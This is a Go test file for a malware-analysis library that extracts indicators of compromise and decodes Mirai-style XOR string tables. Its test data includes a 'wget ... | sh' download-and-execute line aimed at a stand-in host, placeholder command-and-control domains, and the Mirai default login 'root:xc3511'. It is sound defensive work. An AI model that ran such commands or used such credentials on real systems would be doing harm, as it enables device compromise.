package analysis

import (
	"bytes"
	"context"
	"net/netip"
	"slices"
	"testing"
	"unicode/utf8"
)

func TestExtractIOCs(t *testing.T) {
	tests := []struct {
		name    string
		strs    []string
		ips     []IPRef
		domains []string
		urls    []string
		ports   []int
		creds   []Credential
	}{
		{"ip and port", []string{"connect 203.0.113.5:23 now", "10.0.0.1"},
			[]IPRef{{netip.MustParseAddr("203.0.113.5"), 23}, {netip.MustParseAddr("10.0.0.1"), 0}}, nil, nil, []int{23}, nil},
		{"not an ip", []string{"1.2.3.4.5", "999.1.1.1", "v1.22.333.1", "0.0.0.0"}, nil, nil, nil, nil, nil},
		{"file names are not domains", []string{"libc.so.6", "bins.sh", "mirai.arm7", "runtime.link", "sync.mu", "main.go", "x86.so"}, nil, nil, nil, nil, nil},
		{"domains", []string{"cnc.evil-bot.xyz", "update.example.com", "c2.attacker.sh"}, nil,
			[]string{"cnc.evil-bot.xyz", "update.example.com", "c2.attacker.sh"}, nil, nil, nil},
		{"url with port", []string{"wget http://bad.example.net:8081/x.sh -O- | sh"}, nil,
			[]string{"bad.example.net"}, []string{"http://bad.example.net:8081/x.sh"}, []int{8081}, nil},
		{"tftp url", []string{"tftp://198.51.100.2/mips"}, []IPRef{{netip.MustParseAddr("198.51.100.2"), 0}}, nil, []string{"tftp://198.51.100.2/mips"}, nil, nil},
		// Neighbouring strings are not paired: that guessed pairs no table held.
		{"colon pairs, not neighbours", []string{"root:xc3511", "admin", "admin", "guest:notknown"}, nil, nil, nil, nil,
			[]Credential{{"root", "xc3511"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := extractIOCs(tt.strs, nil)
			if !slices.Equal(got.IPs, tt.ips) {
				t.Errorf("ips %v, want %v", got.IPs, tt.ips)
			}
			if !slices.Equal(got.Domains, tt.domains) {
				t.Errorf("domains %v, want %v", got.Domains, tt.domains)
			}
			if !slices.Equal(got.URLs, tt.urls) {
				t.Errorf("urls %v, want %v", got.URLs, tt.urls)
			}
			if !slices.Equal(got.Ports, tt.ports) {
				t.Errorf("ports %v, want %v", got.Ports, tt.ports)
			}
			if !slices.Equal(got.Credentials, tt.creds) {
				t.Errorf("creds %v, want %v", got.Credentials, tt.creds)
			}
		})
	}
}

func TestExtractStrings(t *testing.T) {
	data := []byte("\x00\x01abc\x00abcd\x00\xffhello world\x01\x01h\x00e\x00l\x00l\x00o\x00\x00\x00abcd")
	s := extractStrings(data, 10)
	want := []string{"abcd", "hello world", "hello"}
	if !slices.Equal(s.list, want) || s.truncated {
		t.Errorf("strings %q truncated %v, want %q", s.list, s.truncated, want)
	}
	s = extractStrings(bytes.Repeat([]byte("abcdefg\x00xyzw\x00"), 10), 1)
	if len(s.list) != 1 || !s.truncated {
		t.Errorf("bound: %q %v", s.list, s.truncated)
	}
}

func TestMiraiTableKeys(t *testing.T) {
	for _, key := range []byte{0x22, 0x5a, 0x01, 0xff} {
		pad := bytes.Repeat([]byte{0x90, 0x13, 0x00, 0x47}, 200)
		data := append(bytes.Clone(pad), xorEncode(key, miraiEntries...)...)
		data = append(data, pad...)
		mt := findMiraiTable(data, neighbourXOR(data))
		if mt == nil || mt.Key != key {
			t.Fatalf("key %#x: table %+v", key, mt)
		}
		if !slices.Equal(mt.Strings, miraiEntries) {
			t.Errorf("key %#x: strings %q", key, mt.Strings)
		}
	}
	// Plain text is key 0, which is not a table.
	plain := []byte("\x00/bin/busybox\x00/dev/watchdog\x00TSource Engine Query\x00ncorrect\x00")
	if mt := findMiraiTable(plain, neighbourXOR(plain)); mt != nil {
		t.Errorf("plain strings gave %+v", mt)
	}
}

func TestPrintable(t *testing.T) {
	if got := printable("a\x1b[31m\xffb", 100); got != `a\x1b[31m\xffb` {
		t.Errorf("printable = %q", got)
	}
	if got := printable("abcdef", 3); got != "abc" {
		t.Errorf("printable cut = %q", got)
	}
}

func FuzzExtract(f *testing.F) {
	f.Add([]byte(gafgytDropper))
	f.Add([]byte(xorEncode(0x22, miraiEntries...)))
	f.Add([]byte("http://[::1]:99999/\x00root:xc3511\x00 1.1.1.1:0"))
	f.Fuzz(func(t *testing.T, data []byte) {
		s := extractStrings(data, 100)
		mt := findMiraiTable(data, neighbourXOR(data))
		var dec []string
		if mt != nil {
			dec = mt.Strings
		}
		iocs := extractIOCs(s.all, dec)
		for _, l := range [][]string{iocs.Domains, iocs.URLs, iocs.Commands} {
			for _, v := range l {
				if !utf8.ValidString(v) || len(v) > maxIOCBytes+8 {
					t.Fatalf("unsafe ioc %q", v)
				}
			}
		}
		for _, p := range iocs.Ports {
			if p <= 0 || p > 65535 {
				t.Fatalf("port %d", p)
			}
		}
	})
}

// BenchmarkStatic measures Static on a 1 MB simulated sample (a Go ARM
// build padded with pseudo-random data), yara included when installed.
func BenchmarkStatic(b *testing.B) {
	data := goSample(b, "mirai", target{goarch: "arm", env: "GOARM=7", strip: true}, xorEncode(0x22, miraiEntries...))
	data = bytes.Clone(data)
	seed := uint32(1)
	for len(data) < 1<<20 {
		seed = seed*1664525 + 1013904223
		data = append(data, byte(seed>>24))
	}
	data = data[:1<<20]
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := Static(context.Background(), data, Options{}); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkStaticNoYara(b *testing.B) {
	data := goSample(b, "mirai", target{goarch: "arm", env: "GOARM=7", strip: true}, xorEncode(0x22, miraiEntries...))
	data = data[:min(len(data), 1<<20)]
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := Static(context.Background(), data, Options{YaraPath: "/nonexistent"}); err != nil {
			b.Fatal(err)
		}
	}
}
